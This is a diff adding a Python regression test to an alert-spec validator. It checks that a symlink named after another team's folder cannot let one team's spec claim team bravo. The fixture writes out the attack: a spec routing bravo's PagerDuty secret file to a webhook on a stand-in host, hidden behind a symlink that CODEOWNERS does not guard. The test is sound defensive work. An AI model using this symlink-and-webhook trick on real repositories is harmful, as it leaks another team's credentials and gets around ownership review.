@@ -195,3 +195,44 @@ def test_a_dashboard_taking_a_team_folders_uid_is_a_located_error(
         )
         assert "Traceback" not in result.err
     assert not (tmp_path / "out").exists()
+
+
+def test_a_symlink_named_like_another_teams_folder_does_not_make_a_spec_theirs(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # Found by the round 34 hunt: bravo has no folder yet; alpha's contributor adds `teams/bravo`, a symlink to a
+    # folder of alpha's own (git stores it as a file, which CODEOWNERS' `/specs/teams/bravo/` does not guard),
+    # and a spec there claiming bravo, with bravo's secret file behind its own URL. Read as teams/bravo/x.yaml,
+    # it compiled (exit 0). Its real path is alpha's folder.
+    specs = _repository(tmp_path, {"ledger": "alpha"})
+    hidden = specs / "teams" / "alpha" / ".b"
+    hidden.mkdir()
+    stolen = "/etc/alertmanager/secrets/team-bravo/pagerduty"
+    spec = SPEC.format(service="thief", team="bravo", metric="thief")
+    (hidden / "thief.yaml").write_text(
+        spec + f'routing: {{critical: {{webhook: {{url: "https://hooks.example/x", credentials_file: {stolen}}}}}}}\n'
+    )
+    (specs / "teams" / "bravo").symlink_to("alpha/.b")
+    result = run_obsc(capsys, "validate", str(specs))
+    assert result.code == 2, result.out + result.err
+    assert (
+        f"{specs}/teams/bravo/thief.yaml:3:7 $.team: only specs below {specs}/teams/bravo/ may belong to team 'bravo' "
+        f"(secrets.team_spec_dir in {specs}/platform.yaml) (its path goes through a symlink: the file is "
+    ) in result.err
+    # bravo's own folder, reached through a symlinked checkout, is bravo's
+    (specs / "teams" / "bravo").unlink()
+    (specs / "teams" / "bravo").mkdir()
+    (specs / "teams" / "bravo" / "feed.yaml").write_text(SPEC.format(service="feed", team="bravo", metric="feed"))
+    hidden.joinpath("thief.yaml").unlink()
+    (tmp_path / "checkout").symlink_to(specs)
+    assert run_obsc(capsys, "validate", str(tmp_path / "checkout")).code == 0
+    assert (
+        run_obsc(
+            capsys,
+            "validate",
+            str(tmp_path / "checkout" / "teams" / "bravo"),
+            "--platform",
+            str(specs / "platform.yaml"),
+        ).code
+        == 0
+    )
